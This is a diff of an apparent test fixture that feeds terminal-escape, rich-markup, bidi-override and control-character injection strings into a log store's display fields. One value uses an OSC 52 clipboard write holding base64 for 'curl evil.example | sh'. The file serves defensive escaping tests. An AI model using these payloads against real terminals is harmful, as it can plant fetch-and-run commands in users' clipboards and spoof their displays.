@@ -16,13 +16,13 @@ from explorer import Store
 
 # every place a store can carry text, each with a different attack
 JOB = "[green]job[/]\x1b]0;title\x07"
-CODE = "[/var/log/app]\x9b31m"
-TAG_KEY, TAG_VALUE = "[bold red]", "\x1b[2J\u202e"
+CODE = "[/var/log/app]\x9b31m\x08v\x0c2"  # BS, FF: rich drops them unless escaped first
+TAG_KEY, TAG_VALUE = "[bold red]", "\x1b[2J\u202e\x0bt"
 META_KEY = "[/m]\u2028k"
-META_VALUE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+META_VALUE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\rok"
 LONG = "y" * 100_000
-COLUMN = "[bold red]c\u202e"
-CELL = "[/var/log/app] rotated\x1b[2J"
+COLUMN = "[bold red]c\u202e\x07"
+CELL = "[/var/log/app] rotated\x1b[2J\x07\x08\x0b\x0cend"
 JSON_KEY, JSON_VALUE = "k\x1b]0;t\x07", "[/x]\u2029\x9b"
 BLOB = b"[/var/log/app] rotated \x1b[2J \x9b31m"
 REASON = "[/var/log/app] \x1b]52;c;Y3Vyb==\x07"
